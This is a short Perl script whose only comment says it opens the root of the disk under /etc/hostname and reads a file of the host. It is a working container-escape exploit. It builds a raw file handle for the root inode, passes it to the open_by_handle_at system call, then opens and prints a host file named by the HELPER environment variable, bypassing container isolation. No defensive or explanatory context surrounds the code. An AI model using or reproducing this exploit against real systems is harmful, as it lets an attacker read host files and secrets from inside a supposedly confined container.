# Opens the root of the disk that /etc/hostname is on by its number, and reads a file of the host below it.
my ($OPEN_BY_HANDLE_AT, $OPENAT, $READ) = (304, 257, 0);
my $handle = pack 'LlLL', 8, 1, 2, 0;
open my $mount, '<', '/etc/hostname' or die "hostname: $!\n";
my $root = syscall $OPEN_BY_HANDLE_AT, fileno($mount), $handle, 0x10000;
die "handle: $!\n" if $root < 0;
my $path = substr($ENV{HELPER}, 1) . "\0";
my $file = syscall $OPENAT, $root, $path, 0, 0;
die "open: $!\n" if $file < 0;
my $text = "\0" x 4096;
my $length = syscall $READ, $file, $text, 4096;
print substr $text, 0, $length;
